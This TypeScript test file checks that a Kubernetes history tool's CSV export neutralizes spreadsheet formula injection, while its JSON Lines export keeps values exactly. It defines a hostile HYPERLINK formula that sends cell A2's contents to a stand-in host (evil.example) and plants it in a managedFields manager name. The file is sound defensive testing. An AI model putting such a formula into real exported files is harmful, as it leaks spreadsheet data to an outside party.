import assert from 'node:assert/strict';
import { test } from 'node:test';
import { recordedCache } from '@/test/support/history';
import { normalize } from '../cache/normalize';
import type { ConfigMap } from '../cache/types';
import { createStores } from '../cache/view';
import { csvRow, exportText, neutralCell } from './export';
import { Recorder } from './recorder';
import { WHOLE_FILE } from './scope';
import { HistoryStore } from './store';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A2;"open")';

test('a cell a spreadsheet would run opens as text; others are as written', () => {
  for (const lead of ['=', '+', '-', '@', '\t', '\r', '\n']) assert.equal(neutralCell(`${lead}1+1`), `'${lead}1+1`);
  assert.equal(neutralCell('kubectl-edit'), 'kubectl-edit');
  assert.equal(neutralCell('a=1'), 'a=1', 'only a leading sign');
  assert.equal(csvRow(['=1+2', '-x', 'plain']), "'=1+2,'-x,plain\r\n");
  assert.equal(csvRow(['@SUM(A1:A2),x']), `"'@SUM(A1:A2),x"\r\n`, 'neutralized, then quoted for its comma');
});

test('an object written by a hostile field manager exports as text in CSV, exactly in JSON Lines', () => {
  const store = new HistoryStore(':memory:');
  const stores = createStores();
  const rec = new Recorder(store, recordedCache(stores), { cluster: 'c', kinds: ['ConfigMap'], flushMs: 60_000 });
  rec.start();
  const managedFields = [
    { manager: FORMULA, operation: 'Update', time: '2026-11-01T10:00:00Z', fieldsV1: { 'f:data': {} } },
  ];
  stores.ConfigMap.upsert(
    normalize('ConfigMap', 'v1', {
      metadata: { name: '-cfg', namespace: 'shop', uid: 'u1', resourceVersion: '1', managedFields },
      data: { v: '1' },
    }) as ConfigMap,
  );
  stores.ConfigMap.upsert(
    normalize('ConfigMap', 'v1', {
      metadata: { name: '-cfg', namespace: 'shop', uid: 'u1', resourceVersion: '2', managedFields },
      data: { v: '2' },
    }) as ConfigMap,
  );
  rec.flush();
  rec.stop();
  const reader = store.reader(WHOLE_FILE);
  const csv = [...exportText(reader, {}, 'csv')].join('');
  const cells = csv.split('\r\n')[2];
  assert.ok(cells.includes(`"'${FORMULA.replace(/"/g, '""')}"`), `the manager opens as text: ${cells}`);
  assert.ok(cells.includes(",'-cfg,"), 'a name beginning with a minus too');
  assert.ok(!/(^|,)"?[=+@-]/.test(cells), 'no cell begins with a formula sign');
  const jsonl = [...exportText(reader, {}, 'jsonl')].map((l) => JSON.parse(l) as { manager?: string; name: string });
  assert.equal(jsonl[1].manager, FORMULA, 'JSON Lines keep the exact value');
  assert.equal(jsonl[1].name, '-cfg');
  store.close();
});
